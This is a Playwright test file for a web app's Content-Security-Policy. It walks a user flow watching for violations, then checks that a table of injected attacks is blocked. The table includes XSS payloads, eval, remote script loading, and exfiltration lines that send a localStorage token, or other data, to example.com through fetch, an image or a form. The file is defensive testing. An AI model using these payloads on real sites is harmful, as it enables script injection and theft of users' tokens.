/** The pages keep within their own Content-Security-Policy, and the policy stops what would break in. */

import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { stressCase } from './flow-cases.ts'
import type { AppServer } from './support/app-server.ts'
import { openPage, type WatchedPage } from './support/browser.ts'
import { signInFreshMember } from './support/person.ts'
import { sharedApp } from './support/shared-app.ts'
import { unfoldFooter, visit } from './support/visit.ts'
import { submitButton, walkToTheEnd } from './support/walk-flow.ts'

let server: AppServer
let browser: Browser

beforeAll(async () => {
  ;({ server, browser } = await sharedApp())
})

/** Opens a page in which every violation counts as a trouble, also one before our script runs. */
async function openWatched() {
  const opened = await openPage(browser, server.url, 'desktop')
  await opened.page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      reportError(
        new Error(`violated ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`),
      )
    })
  })
  return opened
}

const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true })

describe('the policy', () => {
  // That every page keeps it, the matrix sees: a violation is an error of the page.
  it('is kept through a questionnaire, its score, advice, a chat, a download and moves between them', async () => {
    const { page, drainPageErrors, close } = await openWatched()
    await signInFreshMember(page)
    await visit(page, stressCase.questions)
    await walkToTheEnd(page, stressCase.instrument, stressCase.answers)
    await submitButton(page).click()
    await page.getByRole('meter').waitFor()
    await page.getByRole('link', { name: 'Back to Evaluations' }).click()
    await page.getByRole('link', { name: 'Activate Health Coach' }).click()
    await page.getByRole('button', { name: 'General Wellness' }).click()
    await page.getByRole('main').getByRole('article').first().waitFor()
    await visit(page, '/assistant')
    await page.getByLabel('Your question').fill('How can I sleep better?')
    await button(page, 'Send').click()
    await button(page, 'Start New Chat').waitFor()
    await unfoldFooter(page)
    await page.getByRole('contentinfo').getByRole('link', { name: 'My data' }).click()
    await Promise.all([page.waitForEvent('download'), button(page, 'Download everything').click()])
    await page.goBack()
    await page.goForward()
    await button(page, 'Delete my data').click()
    await page.getByRole('dialog').waitFor()
    expect(drainPageErrors()).toEqual([])
    await close()
  })
})

/**
 * Ways in which a text that got into a page could become script, leave the page, or take it over.
 * Each runs as the page's own code would and tells whether it went through.
 */
const attacks: Readonly<Record<string, { readonly script: string; readonly stoppedBy: string }>> = {
  'markup with a handler': {
    script: `document.body.innerHTML = '<img src="x" onerror="window.broken = true">'`,
    stoppedBy: 'require-trusted-types-for',
  },
  'markup beside a part': {
    script: `document.body.insertAdjacentHTML('beforeend', '<b onclick="window.broken = true">x</b>')`,
    stoppedBy: 'require-trusted-types-for',
  },
  'a written page': {
    script: `document.write('<script>window.broken = true</' + 'script>')`,
    stoppedBy: 'require-trusted-types-for',
  },
  'a script from elsewhere': {
    script: `const s = document.createElement('script'); s.src = 'https://example.com/x.js'; document.head.append(s)`,
    stoppedBy: 'require-trusted-types-for',
  },
  'a text as a script': {
    script: `const s = document.createElement('script'); s.textContent = 'window.broken = true'; document.head.append(s)`,
    stoppedBy: 'require-trusted-types-for',
  },
  'a text as code': {
    script: `globalThis['ev' + 'al']('window.broken = true')`,
    stoppedBy: 'require-trusted-types-for',
  },
  'a policy of its own': {
    script: `trustedTypes.createPolicy('mine', { createHTML: (text) => text })`,
    stoppedBy: 'trusted-types',
  },
  'a call to elsewhere': {
    script: `fetch('https://example.com/?stolen=' + localStorage.getItem('token')).then(() => { window.broken = true }, () => {})`,
    stoppedBy: 'connect-src',
  },
  'styles of its own': {
    script: `const s = document.createElement('style'); s.textContent = 'body { top: 1px }'; document.head.append(s); if (getComputedStyle(document.body).top === '1px') window.broken = true`,
    stoppedBy: 'style-src-elem',
  },
  'a picture that carries data away': {
    script: `new Image().src = 'https://example.com/?stolen=1'`,
    stoppedBy: 'img-src',
  },
  'a form to elsewhere': {
    script: `const f = document.createElement('form'); f.action = 'https://example.com/'; document.body.append(f); f.submit()`,
    stoppedBy: 'form-action',
  },
  'another ground for links': {
    script: `const b = document.createElement('base'); b.href = 'https://example.com/'; document.head.append(b)`,
    stoppedBy: 'base-uri',
  },
  'a frame': {
    script: `const f = document.createElement('iframe'); f.src = 'https://example.com/'; document.body.append(f)`,
    stoppedBy: 'frame-src',
  },
  'a worker': {
    script: `new Worker('/assets/x.js')`,
    stoppedBy: 'require-trusted-types-for',
  },
}

/** A text, because the test runner would put its own `import` in the place of the browser's. */
const untilStopped = (name: string) => `new Promise((resolve) => {
  const note = (event) => {
    resolve(event.effectiveDirective)
  }
  document.addEventListener('securitypolicyviolation', note, { once: true })
  import('/attack.js?${encodeURIComponent(name)}').then((attack) => { setTimeout(attack.default) })
})`

describe('a break-in', () => {
  let attacked: WatchedPage
  const reached: string[] = []

  beforeAll(async () => {
    attacked = await openPage(browser, server.url, 'desktop')
    const { page } = attacked
    // Code of the page itself: what a test evaluates is let through by some of the policy's rules.
    await page.route('**/attack.js?*', (route) => {
      const { script } =
        attacks[decodeURIComponent(new URL(route.request().url()).search.slice(1))] ?? {}
      return route.fulfill({
        contentType: 'text/javascript',
        body: `export default () => { ${script} }`,
      })
    })
    await page.route('https://example.com/**', (route) => {
      reached.push(route.request().url())
      return route.fulfill({ body: '' })
    })
    await visit(page, '/')
  })

  afterAll(async () => {
    await attacked?.close()
  })

  it.each(Object.entries(attacks))('by %s is stopped', async (name, { stoppedBy }) => {
    const { page, drainPageErrors } = attacked
    const stopped = await page.evaluate<string>(untilStopped(name))
    expect(stopped).toBe(stoppedBy)
    expect(await page.evaluate(() => 'broken' in window)).toBe(false)
    expect(reached).toEqual([])
    expect(new URL(page.url()).origin).toBe(server.url)
    // So that no test that looks at the errors of a page can miss a violation.
    expect(drainPageErrors()).not.toEqual([])
  })
})
